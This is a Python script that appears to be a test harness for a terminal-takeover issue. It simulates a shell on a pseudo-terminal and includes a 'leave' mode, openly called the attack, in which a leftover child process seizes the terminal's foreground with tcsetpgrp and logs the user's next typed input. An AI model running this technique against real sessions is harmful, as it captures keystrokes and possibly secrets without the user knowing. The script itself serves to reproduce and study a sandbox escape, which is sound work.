#!/usr/bin/env python3
"""The terminal takeover of issue 25, both sides of it.

takeover.py shell EARLY LATE COMMAND...: a person at a job-control shell on a
new pty (canonical mode, as a shell's prompt reads a line). The shell leads
the session whose controlling terminal is the pty, and runs COMMAND as a job:
a process group of its own, the terminal's foreground, the pty as its stdin,
stdout and stderr. EARLY (when not empty) is typed 0.5 s after the job starts
(b"\\x03" is ^C). When the job has ended the shell takes the terminal back
(tcsetpgrp) and shows its prompt; LATE is typed 0.5 s later, and the shell
reads its line a second after the prompt (what was typed meanwhile waits in
the terminal for it, as type-ahead does). Prints "job: N" (the job's status,
128+N for a death by signal N) and "shell read: TEXT" (Python's repr of the
bytes, b'' when it got nothing within 2 s).

takeover.py away EARLY LATE COMMAND...: the same, but the job's stdin, stdout
and stderr are /dev/null, as a harness at a shell runs a command
(`</dev/null >log 2>&1`): none of its descriptors is the terminal, which is
still its controlling terminal (/dev/tty).

takeover.py leave LOG: the attack, as a confined command. It exits at once
and leaves a child that ignores SIGTTOU, SIGTTIN and SIGHUP, waits until the
caller's shell has taken the terminal back, makes its own process group the
terminal's foreground (tcsetpgrp: the same session, no permission check),
and reads what is typed next (through /dev/tty, when its stdin is not
the terminal); out of the terminal's session (setsid, or
--new-session), where tcgetpgrp fails, it just reads, as nothing stops it.
What it read is appended to LOG."""
import os
import select
import signal
import sys
import time

import ptyjob


def leave(log):
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    tty = 0 if os.isatty(0) else os.open("/dev/tty", os.O_RDWR)
    mine = os.getpgrp()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            if os.tcgetpgrp(tty) != mine:
                os.tcsetpgrp(tty, mine)
                break
        except OSError:
            break  # not its controlling terminal: no job control stops a read
        time.sleep(0.01)
    got = b""
    if select.select([tty], [], [], 4)[0]:
        try:
            got = os.read(tty, 4096)
        except OSError:
            pass
    with open(log, "ab") as f:
        f.write(got)


def shell(slave, to_typer, command, away):
    ptyjob.lead(slave)
    stdio = None
    if away:
        null = os.open(os.devnull, os.O_RDWR)
        stdio = (null, null, null)
    job = ptyjob.start(slave, command, stdio)
    os.write(to_typer, b"started\n")
    _, status = os.waitpid(job, 0)
    code = os.waitstatus_to_exitcode(status)
    os.tcsetpgrp(slave, os.getpgrp())
    os.write(to_typer, b"prompt\n")
    time.sleep(1)
    got = b""
    deadline = time.monotonic() + 2
    while not got and time.monotonic() < deadline:
        if not select.select([slave], [], [], 0.1)[0]:
            continue
        try:
            got = os.read(slave, 4096)
        except OSError:  # EIO: the terminal's foreground is someone else's
            time.sleep(0.05)
    print("job: %d" % (code if code >= 0 else 128 - code), flush=True)
    print("shell read: %r" % got, flush=True)
    os._exit(0)


def typer(early, late, command, away):
    master, slave = os.openpty()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(master)
        os.close(r)
        shell(slave, w, command, away)
    os.close(slave)
    os.close(w)
    said = os.fdopen(r)
    assert said.readline() == "started\n"
    if early:
        time.sleep(0.5)
        os.write(master, early)
    if said.readline() != "prompt\n":
        sys.exit("the shell did not show its prompt")
    time.sleep(0.5)
    os.write(master, late)
    # Drain the pty (the echo) until the shell is done, so that nothing the
    # job writes blocks it; a leftover may hold the pty open for longer.
    while True:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        if select.select([master], [], [], 0.1)[0]:
            try:
                os.read(master, 4096)
            except OSError:
                pass
    sys.exit(os.waitstatus_to_exitcode(status))


if sys.argv[1] == "leave":
    leave(sys.argv[2])
else:
    typer(sys.argv[2].encode(), sys.argv[3].encode(), sys.argv[4:], sys.argv[1] == "away")
